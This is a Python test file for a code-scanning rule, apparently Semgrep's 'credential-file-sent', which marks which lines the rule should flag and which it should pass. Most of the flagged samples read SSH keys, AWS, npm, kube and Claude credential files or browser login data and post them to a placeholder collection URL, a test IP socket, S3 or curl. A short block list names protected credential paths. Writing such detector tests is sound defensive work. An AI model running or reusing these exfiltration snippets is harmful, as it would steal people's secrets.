import base64
import glob
import hashlib
import json
import os
import socket
import sqlite3
import subprocess
import threading
from pathlib import Path
from urllib.request import Request, urlopen

import aiohttp
import boto3
import httpx
import requests

URL = "https://example.com/collect"
TARGETS = ["~/.ssh/id_rsa", "~/.aws/credentials", "~/.npmrc"]
BLOCKED = ("~/.ssh", "/etc/shadow", "~/.aws/credentials")


def plain() -> None:
    with open(os.path.expanduser("~/.ssh/id_rsa")) as file:
        key = file.read()
    # ruleid: credential-file-sent
    requests.post(URL, json={"key": key})
    # ruleid: credential-file-sent
    requests.post(URL, files={"f": open(f"{Path.home()}/.aws/credentials", "rb")})
    # ruleid: credential-file-sent
    httpx.post(URL, content=(Path.home() / ".kube" / "config").read_bytes())
    data = base64.b64encode(Path("~/.npmrc").expanduser().read_bytes())
    # ruleid: credential-file-sent
    request = Request(URL, data=data)
    # ruleid: credential-file-sent
    urlopen(request)
    # ruleid: credential-file-sent
    requests.get(f"{URL}?d={key}")


def looped() -> None:
    loot = {}
    for target in ("~/.ssh/id_ed25519", "~/.netrc"):
        path = os.path.expanduser(target)
        if os.path.exists(path):
            with open(path) as file:
                loot[path] = file.read()
    loot["host"] = socket.gethostname()
    # ruleid: credential-file-sent
    requests.post(URL, json=loot)


def from_constant() -> None:
    for target in TARGETS:
        # ruleid: credential-file-sent
        requests.post(URL, data=open(os.path.expanduser(target)).read())


def comprehension() -> None:
    loot = {path: Path(path).read_text() for path in glob.glob("/home/*/.ssh/id_*")}
    # ruleid: credential-file-sent
    requests.post(URL, json=loot)


async def later(profile: str) -> None:
    connection = sqlite3.connect(os.path.join(profile, "Default", "Login Data"))
    rows = connection.cursor().execute("select 1").fetchall()
    async with aiohttp.ClientSession() as session:
        async with session.post(
            URL,
            # ruleid: credential-file-sent
            data=json.dumps(rows),
        ) as answer:
            await answer.text()
    channel = socket.socket()
    channel.connect(("192.0.2.1", 443))
    # ruleid: credential-file-sent
    channel.sendall(Path("~/.claude/.credentials.json").expanduser().read_bytes())


def keys() -> list:
    found = []
    for name in os.listdir(os.path.expanduser("~/.ssh")):
        found.append(open(os.path.join(os.path.expanduser("~/.ssh"), name)).read())
    return found


def read(path: str) -> str:
    with open(path) as file:
        return file.read()


def deliver(payload: dict) -> None:
    requests.post(URL, json=payload)


def by_helpers() -> None:
    # ruleid: credential-file-sent
    deliver({"key": Path("~/.ssh/id_rsa").expanduser().read_text()})
    # ruleid: credential-file-sent
    requests.post(URL, data=read(os.path.expanduser("~/.ssh/id_rsa")))
    # ruleid: credential-file-sent
    threading.Thread(target=deliver, args=({"keys": keys()},)).start()
    # ruleid: credential-file-sent
    boto3.client("s3").upload_file(os.path.expanduser("~/.aws/credentials"), "bucket", "x")
    # ruleid: credential-file-sent
    subprocess.run(["curl", "-T", os.path.expanduser("~/.ssh/id_rsa"), URL])


def honest(path: str) -> str:
    if any(path.startswith(os.path.expanduser(blocked)) for blocked in BLOCKED):
        raise PermissionError(path)
    # ok: credential-file-sent
    requests.post(URL, data=open(path).read())
    login = json.loads((Path.home() / ".docker" / "config.json").read_text())
    # ok: credential-file-sent
    requests.post(URL, json={"image": "x"}, headers={"Authorization": login["auths"]["x"]})
    refresh = json.load(open(os.path.expanduser("~/.config/gcloud/credentials.json")))
    # ok: credential-file-sent
    requests.post(URL, data={"refresh_token": refresh["refresh_token"]})
    token = Path("~/.cache/huggingface/token").expanduser().read_text().strip()
    # ok: credential-file-sent
    requests.get(URL, headers={"Authorization": f"Bearer {token}"})
    public = (Path.home() / ".ssh" / "id_ed25519.pub").read_text()
    # ok: credential-file-sent
    requests.post(URL, json={"title": "key", "key": public})
    # ok: credential-file-sent
    requests.post(URL, json={"path": "~/.ssh/id_rsa", "exists": os.path.exists("~/.ssh/id_rsa")})
    # ok: credential-file-sent
    requests.post(URL, json={"sha": hashlib.sha256(Path("~/.ssh/id_rsa").read_bytes())})
    # ok: credential-file-sent
    requests.get(URL, cert=os.path.expanduser("~/.ssh/id_rsa"))
    # ok: credential-file-sent
    subprocess.run(["curl", "--netrc-file", os.path.expanduser("~/.netrc"), URL])
    # ok: credential-file-sent
    return "requests.post(URL, data=open('~/.ssh/id_rsa').read())"


def first_key() -> str:
    path = os.path.expanduser("~/.ssh/id_rsa")
    if os.path.exists(path):
        with open(path) as file:
            return file.read()
    return ""


def all_keys() -> dict:
    loot = {}
    for target in ["~/.ssh/id_rsa", "~/.netrc"]:
        try:
            with open(os.path.expanduser(target)) as file:
                loot[target] = file.read()
        except OSError:
            continue
    return loot


def key_path() -> str:
    return os.path.expanduser("~/.ssh/id_rsa")


def by_more_helpers() -> None:
    # ruleid: credential-file-sent
    requests.post(URL, json={"key": first_key()})
    # ruleid: credential-file-sent
    deliver(all_keys())
    # ok: credential-file-sent
    requests.post(URL, json={"path": key_path()})
